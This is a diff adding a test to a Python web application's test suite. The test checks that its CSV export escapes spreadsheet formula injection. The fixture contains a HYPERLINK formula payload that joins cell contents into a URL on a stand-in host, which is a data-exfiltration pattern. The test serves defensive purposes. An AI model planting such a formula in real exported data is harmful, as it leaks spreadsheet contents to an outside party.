@@ -5,6 +5,8 @@ Parsers first (no database), then the application on both engines.
 
 from __future__ import annotations
 
+import csv
+import io
 import warnings
 from datetime import date
 from typing import Any
@@ -19,6 +21,7 @@ from atalaya.audit.log import AuditQuery, read_records
 from atalaya.audit.verify import verify
 from atalaya.store.tables import lead_override
 from atalaya.web.charts import chart_window
+from atalaya.web.export import CSV_FIELDS, csv_lines
 from atalaya.web.filters import FilterError, parse_filters
 from tests.web.conftest import BASE, form_csrf, sign_in
 from tests.web.seed import PREFIX, lead_ids_by_ip
@@ -205,3 +208,18 @@ def test_override_scores_are_bounded_to_0_100(client_for: Any, world: Engine) ->
     with world.connect() as conn:
         kept = conn.execute(select(lead_override.c.score).order_by(lead_override.c.id)).scalars()
         assert list(kept) == [0.0, 100.0, 55.5]
+
+
+def test_web_csv_export_neutralises_formulas() -> None:
+    record = {name: None for name in CSV_FIELDS} | {
+        "id": 1,
+        "isp": '=HYPERLINK("http://x.example/?"&B2&C2, "open")',
+        "municipality_name": "+34 900",
+        "lon": -3.7,
+        "networks": ["bittorrent"],
+        "flags": [],
+    }
+    rows = list(csv.DictReader(io.StringIO("".join(csv_lines([record])))))
+    assert rows[0]["isp"] == "'" + record["isp"]
+    assert rows[0]["municipality_name"] == "'+34 900"
+    assert rows[0]["lon"] == "-3.7"
